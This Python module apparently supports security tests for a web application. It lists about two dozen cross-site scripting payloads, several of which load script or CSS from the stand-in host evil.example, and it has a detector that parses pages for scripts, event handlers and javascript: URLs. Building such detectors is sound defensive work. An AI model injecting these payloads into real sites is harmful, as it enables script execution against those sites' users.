# SPDX-License-Identifier: AGPL-3.0-or-later
"""Things that a browser would run or follow if a page let it, and how to see whether one did."""

import html5lib

XSS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">qui</a>',
    "javascript:alert(1)//http://evil.example",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'onmouseover='alert(1)",
    "https://evil.example/<script>alert(1)</script>",
    "http://evil.example/?x=javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "{{ 7|add:7 }}{% debug %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe<script>alert(1)</script>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>",
)
ALLOWED_SCRIPTS = ("/static/",)


def dangers(page):
    """Return what in a page would run or lead where it should not."""
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag == "script" and _is_hostile(element):
            found.append(("script", element.get("src")))
        if element.tag in {"iframe", "object", "embed"}:
            found.append((element.tag, element.get("src")))
        found.extend(_dangerous_attributes(element))
    return found


def _is_hostile(script):
    source = script.get("src", "")
    if source.startswith(ALLOWED_SCRIPTS) or script.get("type") == "application/json":
        return False
    return "alert" in "".join(script.itertext()) or "evil" in source


def _dangerous_attributes(element):
    for name, value in element.attrib.items():
        plain = "".join(str(value).split()).lower()
        if str(name).lower().startswith("on") or plain.startswith(("javascript:", "data:text")):
            yield (str(name), value)
        if element.tag == "a" and "evil.example" in plain and element.get("rel") != "nofollow ugc noopener":
            yield ("a", value)
        if name in {"src", "action", "formaction"} and "evil.example" in plain:
            yield (str(name), value)
        if name == "style" and "alert" in plain:
            yield (str(name), value)
